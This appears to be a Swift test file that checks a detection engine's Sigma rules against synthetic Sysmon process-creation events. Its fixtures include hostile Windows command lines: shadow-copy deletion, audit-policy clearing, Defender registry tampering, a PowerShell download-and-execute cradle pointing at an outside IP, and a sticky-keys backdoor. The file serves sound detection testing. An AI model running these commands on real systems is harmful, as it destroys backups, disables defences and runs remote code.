import CrowdCore
import CrowdTestSupport
import Testing

@testable import CrowdEngine

/// The hub's sigma rules have no hub tests: all of them loaded at once, over process creations as sysmon writes them. What is
/// expected was computed by another reading of the rules than this engine's.
@Suite("Sigma rules") struct SigmaTests {
    struct Creation: CustomTestStringConvertible, Sendable {
        var testDescription: String
        var image: String
        var originalName = ""
        var command: String
        var parent = ""
        /// Names of the rules that fire, all of `sigmahq/proc_creation_win_…`.
        var fires: [String]
    }

    private static let system = "C:\\Windows\\System32\\"

    private static let creations = [
        Creation(
            testDescription: "a calculator from an odd place", image: "C:\\Temp\\calc.exe",
            command: "C:\\Temp\\calc.exe", fires: ["calc_uncommon_exec"]),
        Creation(
            testDescription: "shadow copies deleted", image: system + "vssadmin.exe", originalName: "VSSADMIN.EXE",
            command: "vssadmin.exe delete shadows /all /quiet", fires: ["susp_shadow_copies_deletion"]),
        Creation(
            testDescription: "audit policy cleared", image: system + "auditpol.exe", originalName: "AUDITPOL.EXE",
            command: "auditpol /clear /y", fires: ["auditpol_susp_execution"]),
        Creation(
            testDescription: "privileges asked for", image: system + "whoami.exe", originalName: "whoami.exe",
            command: "whoami /priv", parent: system + "cmd.exe", fires: ["whoami_priv_discovery"]),
        Creation(
            testDescription: "the virus scanner told to keep quiet", image: system + "reg.exe", originalName: "reg.exe",
            command: "reg add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Spynet\" /v SpynetReporting "
                + "/t REG_DWORD /d 0 /f",
            fires: ["reg_susp_paths", "reg_windows_defender_tamper"]),
        Creation(
            testDescription: "a script from the net", image: system + "WindowsPowerShell\\v1.0\\powershell.exe",
            originalName: "PowerShell.EXE",
            command:
                "powershell.exe -command IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')",
            parent: "C:\\Windows\\explorer.exe",
            fires: ["powershell_download_iex", "powershell_susp_download_patterns"]),
        Creation(
            testDescription: "an editor, as every day", image: system + "notepad.exe", originalName: "NOTEPAD.EXE",
            command: "\"C:\\Windows\\System32\\notepad.exe\" C:\\Users\\alice\\list.txt",
            parent: "C:\\Windows\\explorer.exe", fires: []),
        Creation(
            testDescription: "sticky keys behind the logon", image: system + "cmd.exe", originalName: "Cmd.Exe",
            command: "C:\\Windows\\System32\\cmd.exe sethc.exe 211", parent: system + "winlogon.exe",
            fires: ["cmd_sticky_key_like_backdoor_execution"]),
        Creation(
            testDescription: "dllhost without arguments", image: system + "dllhost.exe", command: "dllhost.exe",
            fires: ["dllhost_no_cli_execution"]),
        Creation(
            testDescription: "Tor", image: "C:\\Users\\a\\Tor Browser\\Browser\\tor.exe", command: "tor.exe",
            fires: ["browsers_tor_execution"]),
    ]

    @Test func fire() throws {
        guard let hub = SharedMaterial.path("hub") else { return }
        let rules = try SigmaTests.texts(in: hub + "/scenarios/sigmahq")
        #expect(rules.count > 500)
        let parsers = [
            ("s00-raw", "/parsers/s00-raw/crowdsecurity/windows-logs.yaml"),
            ("s01-parse", "/parsers/s01-parse/crowdsecurity/sysmon-logs.yaml"),
            ("s02-enrich", "/parsers/s02-enrich/crowdsecurity/dateparse-enrich.yaml"),
        ]
        let harness = try EngineHarness(
            parsers: parsers.map { ($0.0, String(decoding: try FileContents.read(hub + $0.1), as: UTF8.self)) },
            scenarios: rules, module: "wineventlog")
        #expect(harness.content.refused.isEmpty && harness.content.scenarios.count == rules.count)
        for (number, creation) in SigmaTests.creations.enumerated() {
            let before = harness.alerts.count
            harness.run([SigmaTests.line(creation, number)])
            let fired = harness.alerts[before...].map(\.scenario).sorted()
            #expect(fired == creation.fires.map { "sigmahq/proc_creation_win_" + $0 }, "\(creation.testDescription)")
        }
        #expect(harness.failures.isEmpty)
    }

    private static func texts(in folder: String) throws -> [String] {
        try ContentFiles.entries(folder).filter { $0.hasSuffix(".yml") || $0.hasSuffix(".yaml") }.map { name in
            String(decoding: try FileContents.read(folder + "/" + name), as: UTF8.self)
        }
    }

    /// As Windows hands it out: one line of XML.
    private static func line(_ creation: Creation, _ number: Int) -> String {
        func data(_ name: String, _ text: String) -> String {
            let escaped = text.flatMap { ["&": "&amp;", "<": "&lt;", "\"": "&quot;"][$0] ?? String($0) }
            return "<Data Name='\(name)'>\(String(escaped))</Data>"
        }
        return "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
            + "<Provider Name='Microsoft-Windows-Sysmon'/><EventID>1</EventID>"
            + "<TimeCreated SystemTime='2026-06-01T12:00:\(number < 10 ? "0" : "")\(number)Z'/>"
            + "<Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>win01</Computer></System><EventData>"
            + data("ProcessId", "40\(number)") + data("Image", creation.image)
            + data("OriginalFileName", creation.originalName) + data("CommandLine", creation.command)
            + data("ParentProcessId", "31\(number)") + data("ParentImage", creation.parent) + "</EventData></Event>"
    }
}
